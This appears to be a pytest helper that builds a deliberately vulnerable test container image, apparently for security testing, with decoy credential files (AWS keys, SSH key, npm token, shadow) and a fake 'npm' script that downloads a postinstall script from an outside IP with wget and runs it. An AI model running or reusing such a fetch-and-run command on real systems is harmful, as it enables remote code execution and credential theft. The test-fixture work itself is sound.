"""The image of the attacked containers: dash, busybox, a program with a hole, a tool for its calls, and files that attackers look for.

The shell is not that of busybox, which starts its own applets under no name, or runs them by itself.
"""

import io
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

NAME = "localhost/attacked:1"
HERE = Path(__file__).parent
BUSYBOX, SHELL = Path("/bin/busybox"), Path("/bin/dash")
FOLDERS = (
    "bin",
    "dev",
    "etc",
    "host",
    "proc",
    "root",
    "run",
    "srv",
    "sys",
    "tmp",
    "usr/bin",
    "usr/lib/app",
    "var/log",
    "var/run",
)
FILES = {
    "etc/app.conf": "workers=2\n",
    "etc/hosts": "127.0.0.1 localhost\n192.88.99.8 dns.google\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\n",
    "usr/lib/app/page.html": "<p>hello</p>\n",
    "root/.aws/credentials": "[default]\naws_access_key_id = none\n",
    "root/.ssh/id_rsa": "no key\n",
    "root/.npmrc": "//registry.example/:_authToken=none\n",
    "root/.bash_history": "ls\n",
    "var/log/auth.log": "one line\n",
    "var/log/nginx/access.log": "one line\n",
    "var/log/nginx/error.log": "one line\n",
}
NPM = "#!/bin/sh\nwget -q -O /tmp/postinstall.sh http://192.88.99.66:8080/postinstall.sh\nsh /tmp/postinstall.sh\n"


def compiled(folder: Path) -> dict[str, bytes]:
    """The two programs of this folder, by name; linked statically, since the image has no library."""
    compiler = shutil.which("clang") or shutil.which("cc")
    if compiler is None or not (BUSYBOX.exists() and SHELL.exists()):
        pytest.skip("a C compiler, busybox and dash are not installed")
    found = {}
    for name in ("app", "tool"):
        out = folder / name
        command = [
            compiler,
            "-O1",
            "-Wall",
            "-Werror",
            "-static",
            "-o",
            str(out),
            str(HERE / f"{name}.c"),
            "-lm",
        ]
        subprocess.run(command, check=True, timeout=120)
        found[name] = out.read_bytes()
    return found


def image_layer(programs: dict[str, bytes]) -> bytes:
    """Its one layer, a tar archive."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as tar:
        parents = {str(parent) for path in FILES for parent in Path(path).parents} - {"."}
        for name in sorted({*FOLDERS, *parents, "usr", "usr/lib", "var"}):
            folder = tarfile.TarInfo(name)
            folder.type, folder.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(folder)
        for path, text in FILES.items():
            _add(tar, path, text.encode(), 0o644)
        _add(tar, "bin/busybox", BUSYBOX.read_bytes(), 0o755)
        for library in _libraries(SHELL):
            _add(tar, library.strip("/"), Path(library).read_bytes(), 0o755)
        _add(tar, "bin/sh", SHELL.read_bytes(), 0o755)
        _add(tar, "usr/bin/npm", NPM.encode(), 0o755)
        _add(tar, "usr/bin/app", programs["app"], 0o755)
        _add(tar, "usr/lib/app/tool", programs["tool"], 0o755)
        for applet in sorted({*_applets()} - {"busybox", "sh"}):
            link = tarfile.TarInfo(f"bin/{applet}")
            link.type, link.linkname = tarfile.SYMTYPE, "busybox"
            tar.addfile(link)
    return content.getvalue()


def _applets() -> list[str]:
    listed = subprocess.run([BUSYBOX, "--list"], capture_output=True, text=True, check=True, timeout=60)
    return listed.stdout.split()


def _libraries(program: Path) -> list[str]:
    listed = subprocess.run(["ldd", program], capture_output=True, text=True, check=True, timeout=60)
    return [word for line in listed.stdout.splitlines() for word in line.split() if word.startswith("/")]


def _add(tar: tarfile.TarFile, name: str, content: bytes, mode: int) -> None:
    entry = tarfile.TarInfo(name)
    entry.size, entry.mode = len(content), mode
    tar.addfile(entry, io.BytesIO(content))
